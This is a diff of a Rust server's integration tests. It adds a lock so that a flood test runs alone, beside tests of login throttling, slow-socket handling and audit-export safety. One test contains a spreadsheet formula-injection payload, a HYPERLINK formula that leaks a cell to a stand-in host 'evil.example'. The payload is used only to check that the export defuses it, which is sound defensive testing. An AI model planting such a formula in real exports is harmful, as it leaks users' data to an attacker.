@@ -17,6 +17,9 @@ use axum::body::Body;
 use axum::extract::ConnectInfo;
 use axum::http::{Request, StatusCode};
 use common::*;
+
+/// The flood test runs alone; every other test of this file holds a read guard.
+static FLOOD: tokio::sync::RwLock<()> = tokio::sync::RwLock::const_new(());
 use http_body_util::BodyExt;
 use mutasi_server::auth::client::TrustedProxies;
 use mutasi_server::auth::password::{HashLimits, Verifier};
@@ -68,6 +71,7 @@ fn router_on(store: Store, tune: impl FnOnce(&mut AppState)) -> axum::Router {
 
 #[tokio::test]
 async fn a_burst_of_guesses_is_throttled_before_any_hash_and_the_right_password_waits_too() {
+    let _beside = FLOOD.read().await;
     let store = seeded_store(Backend::Sqlite).await;
     let router = router_on(store, |_| {});
     // 40 guesses at once from one address: the account's allowance (5) goes through to the
@@ -115,6 +119,7 @@ async fn a_burst_of_guesses_is_throttled_before_any_hash_and_the_right_password_
 
 #[tokio::test]
 async fn one_address_cannot_spray_guesses_over_many_accounts_and_ipv6_counts_per_64() {
+    let _beside = FLOOD.read().await;
     let store = seeded_store(Backend::Sqlite).await;
     let router = router_on(store, |s| {
         s.throttle.address.free = 6;
@@ -135,6 +140,7 @@ async fn one_address_cannot_spray_guesses_over_many_accounts_and_ipv6_counts_per
 
 #[tokio::test]
 async fn forwarded_for_is_believed_only_from_the_trusted_proxy() {
+    let _beside = FLOOD.read().await;
     let store = seeded_store(Backend::Sqlite).await;
     let router = router_on(store, |s| {
         s.throttle.address.free = 3;
@@ -196,6 +202,7 @@ async fn forwarded_for_is_believed_only_from_the_trusted_proxy() {
 
 #[tokio::test]
 async fn two_server_processes_on_one_database_share_the_count() {
+    let _beside = FLOOD.read().await;
     let url = fresh_postgres().await;
     let a = Store::open(Database::parse(&url)).await.unwrap();
     a.import(
@@ -224,6 +231,7 @@ async fn two_server_processes_on_one_database_share_the_count() {
 
 #[tokio::test]
 async fn a_success_takes_its_attempt_back() {
+    let _beside = FLOOD.read().await;
     let store = seeded_store(Backend::Sqlite).await;
     let router = router_on(store, |_| {});
     // Many successful logins in a row are never throttled.
@@ -235,6 +243,7 @@ async fn a_success_takes_its_attempt_back() {
 
 #[tokio::test]
 async fn password_checks_beyond_the_queue_get_503_and_are_not_counted_as_guesses() {
+    let _beside = FLOOD.read().await;
     let store = seeded_store(Backend::Sqlite).await;
     let verifier = Arc::new(Verifier::new(HashLimits {
         concurrent: 1,
@@ -334,6 +343,7 @@ fn quick_limits() -> Limits {
 
 #[tokio::test]
 async fn idle_sockets_and_half_sent_headers_are_closed() {
+    let _beside = FLOOD.read().await;
     let (addr, _stop) = serve(quick_limits()).await;
     let mut idle = TcpStream::connect(addr).await.unwrap();
     let mut half = TcpStream::connect(addr).await.unwrap();
@@ -364,6 +374,7 @@ async fn idle_sockets_and_half_sent_headers_are_closed() {
 
 #[tokio::test]
 async fn a_trickled_body_is_cut_off_with_408() {
+    let _beside = FLOOD.read().await;
     let (addr, _stop) = serve(quick_limits()).await;
     let mut s = TcpStream::connect(addr).await.unwrap();
     s.write_all(
@@ -398,6 +409,7 @@ async fn a_trickled_body_is_cut_off_with_408() {
 
 #[tokio::test]
 async fn at_the_connection_cap_the_longest_idle_connection_makes_room() {
+    let _beside = FLOOD.read().await;
     let mut limits = quick_limits();
     limits.max_connections = 8;
     limits.header = Duration::from_secs(30);
@@ -433,6 +445,9 @@ fn rss_kib(pid: u32) -> u64 {
 /// `mutasi serve` process; health answers within a second throughout, and the memory goes back.
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn the_server_outlives_a_flood_of_idle_sockets_and_logins() {
+    // Alone: the other tests of this file start servers and hash passwords on the same
+    // cores, and this one measures how fast health answers under its own flood.
+    let _alone = FLOOD.write().await;
     rlimit::increase_nofile_limit(8192).unwrap();
     let dir = tempfile::tempdir().unwrap();
     let db = dir.path().join("flood.db");
@@ -537,6 +552,7 @@ async fn login_raw(addr: SocketAddr, user: &'static str, client: &'static str) -
 
 #[tokio::test]
 async fn the_audit_export_neutralises_formulas_and_holds_every_row() {
+    let _beside = FLOOD.read().await;
     let app = TestApp::new(Backend::Sqlite).await;
     let siti = app.login(EMPLOYEE).await;
     let evil = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Klik\")";
@@ -614,6 +630,7 @@ async fn the_audit_export_neutralises_formulas_and_holds_every_row() {
 
 #[tokio::test]
 async fn demo_seeding_keeps_passwords_and_never_enables_a_disabled_account() {
+    let _beside = FLOOD.read().await;
     let store = Store::open_memory().await.unwrap();
     let ds = mutasi_core::fixture::small();
     store
@@ -653,6 +670,7 @@ async fn demo_seeding_keeps_passwords_and_never_enables_a_disabled_account() {
 
 #[tokio::test]
 async fn mutasi_user_reads_the_password_without_echo() {
+    let _beside = FLOOD.read().await;
     let dir = tempfile::tempdir().unwrap();
     let db = dir.path().join("users.db");
     let secret = "rahasia-tidak-terlihat-42";
@@ -705,6 +723,7 @@ async fn mutasi_user_reads_the_password_without_echo() {
 
 #[tokio::test]
 async fn the_audit_export_streams_to_its_end_over_a_real_connection() {
+    let _beside = FLOOD.read().await;
     // Regression: the streamed body was polled once more after its end by the HTTP layer,
     // which a plain `unfold` stream answers with a panic (an empty reply to the browser).
     let (addr, _stop) = serve(Limits::default()).await;
